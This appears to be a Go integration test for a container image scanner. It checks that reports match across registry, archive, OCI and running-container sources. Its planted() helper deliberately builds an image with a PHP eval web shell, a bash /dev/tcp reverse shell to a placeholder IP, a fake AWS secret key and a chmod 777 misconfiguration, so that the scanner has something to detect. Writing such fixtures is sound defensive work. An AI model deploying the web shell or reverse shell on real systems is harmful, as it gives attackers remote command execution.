//go:build integration

package scan

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"bulkhead"
	"bulkhead/image"
	"bulkhead/test/lab"
	"bulkhead/vuln"
)

// TestSameFromEverywhere scans one image from wherever it can lie, and a container that runs: everything that is looked
// for is the same, so their reports are, but for the target, the digest (a file has none of a registry's) and how layers
// are packed there.
func TestSameFromEverywhere(t *testing.T) {
	l := lab.Start(t)
	db := advisories(t)
	nginx, err1 := l.Image(t.Context(), "nginx")
	tomcat, err2 := l.Image(t.Context(), "tomcat")
	if err := errors.Join(err1, err2); err != nil {
		t.Fatal(err)
	}
	t.Run("planted", func(t *testing.T) { sameFromEverywhere(t, l, db, "planted", planted(t, nginx)) })
	t.Run("tomcat", func(t *testing.T) { sameFromEverywhere(t, l, db, "tomcat", tomcat) })
}

// planted builds an image that has something of every kind. The texts are put together here, so that no scanner of
// sources takes this file for what it is about.
func planted(t *testing.T, base string) string {
	t.Helper()
	context := t.TempDir()
	for name, text := range map[string]string{
		"Dockerfile": "FROM " + base + "\nCOPY shell.php /srv/www/shell.php\nCOPY run.sh deploy.env /srv/\nRUN rm /srv/deploy.env && chmod 777 /srv/run.sh\nEXPOSE 22\n",
		"shell.php":  "<?php ev" + `al($_POST["c"]);`,
		"run.sh":     "#!/bin/sh\nbash -i >& /dev" + "/tcp/203.0.113.5/4444 0>&1\n",
		"deploy.env": "aws_secret_access_key = kXq3vT8bN2mZp7Lw" + "Rj5YcH1fGd9sAe4uQo6iWx0B\n",
	} {
		if err := os.WriteFile(filepath.Join(context, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	const reference = "scan-test/planted-source:1"
	docker(t, "build", "-q", "-t", reference, context)
	t.Cleanup(func() { _ = exec.Command("docker", "rmi", reference).Run() })
	return reference
}

// removeContainerd removes a container with its process and its snapshot, which stays behind where a start was cut off.
func removeContainerd(name string) error {
	ctr := func(args ...string) error {
		return exec.Command("ctr", append([]string{"-n", "scan-test"}, args...)...).Run()
	}
	_ = ctr("tasks", "rm", "-f", name)
	err := ctr("containers", "rm", name)
	_ = ctr("snapshots", "rm", name)
	return err
}

func sameFromEverywhere(t *testing.T, l *lab.Lab, db *vuln.DB, name, reference string) {
	dir := t.TempDir()
	archive, exported, layout, root := filepath.Join(dir, "image.tar"), filepath.Join(dir, "oci.tar"), filepath.Join(dir, "layout"), filepath.Join(dir, "root.tar")
	docker(t, "save", "-o", archive, reference)
	pushed := l.Registry() + "/scan-test/" + name + ":1"
	docker(t, "tag", reference, pushed)
	docker(t, "push", pushed)
	command(t, "ctr", "-n", "scan-test", "images", "pull", "--plain-http", pushed)
	t.Cleanup(func() {
		_ = exec.Command("ctr", "-n", "scan-test", "images", "rm", "--sync", pushed).Run()
		_ = exec.Command("docker", "rmi", pushed).Run()
	})
	command(t, "ctr", "-n", "scan-test", "images", "export", exported, pushed)
	command(t, "mkdir", layout)
	command(t, "tar", "-C", layout, "-xf", exported)
	container := strings.TrimSpace(docker(t, "run", "-d", "--entrypoint", "sleep", reference, "600"))
	t.Cleanup(func() { docker(t, "rm", "-f", container) })
	second := "scan-test-" + name
	removeContainerd(second) // of a run that was killed
	command(t, "ctr", "-n", "scan-test", "run", "-d", pushed, second, "sleep", "600")
	t.Cleanup(func() {
		if err := removeContainerd(second); err != nil {
			t.Error(err)
		}
	})
	docker(t, "export", "-o", root, container)
	command(t, "mkdir", filepath.Join(dir, "root"))
	command(t, "tar", "-C", filepath.Join(dir, "root"), "-xf", root)

	want := scanned(t, l, db, archive)
	if len(want.Packages) < 80 || len(want.Vulnerabilities) < 2 || len(want.Findings) < 2 {
		t.Fatalf("%s: %d packages, %d vulnerabilities, %d findings", name, len(want.Packages), len(want.Vulnerabilities), len(want.Findings))
	}
	if name == "planted" {
		checkKinds(t, want.Findings)
	}
	for _, target := range []string{
		"registry:" + pushed, "docker:" + reference, "containerd:" + pushed, "oci:" + layout, exported, "oci-archive:" + exported,
		"docker-archive:" + archive + ":" + reference, "container:" + container, "container:" + second,
	} {
		got := scanned(t, l, db, target)
		if strings.HasPrefix(target, "container:") && len(got.Layers) == len(want.Layers)+1 {
			got.Layers = got.Layers[:len(want.Layers)] // what it writes is on top
		}
		if diff := cmp.Diff(asJSON(t, want), asJSON(t, got)); diff != "" {
			t.Errorf("%s (-file +%s):\n%.4000s", name, target, diff)
		}
	}
	checkPackages(t, reference, want.Packages)
	unpacked := seen(want)
	for _, target := range []string{root, "dir:" + filepath.Join(dir, "root")} {
		if diff := cmp.Diff(unpacked, seen(scanned(t, l, db, target))); diff != "" {
			t.Errorf("%s (-file +%s):\n%.4000s", name, target, diff)
		}
	}
}

func checkKinds(t *testing.T, findings []bulkhead.Finding) {
	t.Helper()
	for _, kind := range []bulkhead.FindingKind{bulkhead.FindingMalware, bulkhead.FindingWebShell, bulkhead.FindingSecret, bulkhead.FindingMisconfig} {
		if !slices.ContainsFunc(findings, func(f bulkhead.Finding) bool { return f.Kind == kind }) {
			t.Errorf("nothing of kind %s in what was planted", kind)
		}
	}
}

// seen are the lines of a report that a root file system has too: of what is in it, without layers and how it is run.
func seen(r bulkhead.Report) (lines []string) {
	for _, p := range r.Packages {
		lines = append(lines, "package "+p.PURL+" "+p.Path)
	}
	for _, v := range r.Vulnerabilities {
		lines = append(lines, "vulnerability "+v.ID+" "+v.PURL+" "+v.Path)
	}
	for _, f := range r.Findings {
		if f.Path != "" && !strings.Contains(f.Message, "still in the") {
			lines = append(lines, fmt.Sprintf("%s %s %s:%d", f.Kind, f.Rule, f.Path, f.Line))
		}
	}
	slices.Sort(lines)
	return lines
}

func asJSON(t *testing.T, r bulkhead.Report) []string {
	t.Helper()
	r.Target, r.Digest, r.Layers = "", "", slices.Clone(r.Layers)
	for i := range r.Layers {
		r.Layers[i].Digest = ""
	}
	text, err := json.MarshalIndent(r, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return strings.Split(string(text), "\n")
}

// advisories is a database of two.
func advisories(t *testing.T) *vuln.DB {
	t.Helper()
	feed, db := filepath.Join(t.TempDir(), "osv", "Debian", "all.zip"), filepath.Join(t.TempDir(), "v.db")
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for n, source := range []string{"zlib", "glibc"} {
		w, err := z.Create(fmt.Sprintf("DEBIAN-CVE-2026-000%d.json", n))
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(w, `{"id":"DEBIAN-CVE-2026-000%[1]d","modified":"2026-05-01T00:00:00Z","upstream":["CVE-2026-000%[1]d"],
			"affected":[{"package":{"ecosystem":"Debian:12","name":%[2]q},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"}]}]}]}`, n, source)
	}
	err := errors.Join(z.Close(), os.MkdirAll(filepath.Dir(feed), 0o755), os.WriteFile(feed, b.Bytes(), 0o600))
	if err == nil {
		_, err = vuln.Import(t.Context(), db, []string{feed}, vuln.ImportOptions{})
	}
	if err != nil {
		t.Fatal(err)
	}
	opened, err := vuln.Open(db)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = opened.Close() })
	return opened
}

// scanned looks for everything that this build can look for.
func scanned(t *testing.T, l *lab.Lab, db *vuln.DB, target string) bulkhead.Report {
	t.Helper()
	s, err := New(Options{Database: db})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	img, err := image.Open(t.Context(), target, image.Options{PlainHTTP: []string{l.Registry()}, Namespace: "scan-test"})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = img.Close() }()
	r, err := s.Scan(t.Context(), img)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range r.Incomplete {
		if o.Path != "" {
			t.Errorf("%s is incomplete: %+v", target, o)
		}
	}
	return r
}

// checkPackages asks dpkg itself.
func checkPackages(t *testing.T, reference string, packages []bulkhead.Package) {
	t.Helper()
	told := docker(t, "run", "--rm", "--entrypoint", "dpkg-query", reference, "-W", "-f", `${db:Status-Abbrev} ${Package} ${Version} ${Architecture}\n`)
	var want, got []string
	for line := range strings.Lines(told) {
		if rest, ok := strings.CutPrefix(line, "ii  "); ok {
			want = append(want, strings.TrimSpace(rest))
		}
	}
	for _, p := range packages {
		if p.Type == "deb" {
			got = append(got, p.Name+" "+p.Version+" "+p.Arch)
		}
	}
	slices.Sort(want)
	slices.Sort(got)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("packages of %s (-dpkg-query +ours):\n%s", reference, diff)
	}
}

func docker(t *testing.T, args ...string) string {
	t.Helper()
	return command(t, "docker", args...)
}

func command(t *testing.T, name string, args ...string) string {
	t.Helper()
	c := exec.Command(name, args...)
	var problems strings.Builder
	c.Stderr = &problems
	out, err := c.Output()
	if err != nil {
		t.Fatalf("%s %s: %v: %s", name, strings.Join(args, " "), err, problems.String())
	}
	return string(out)
}
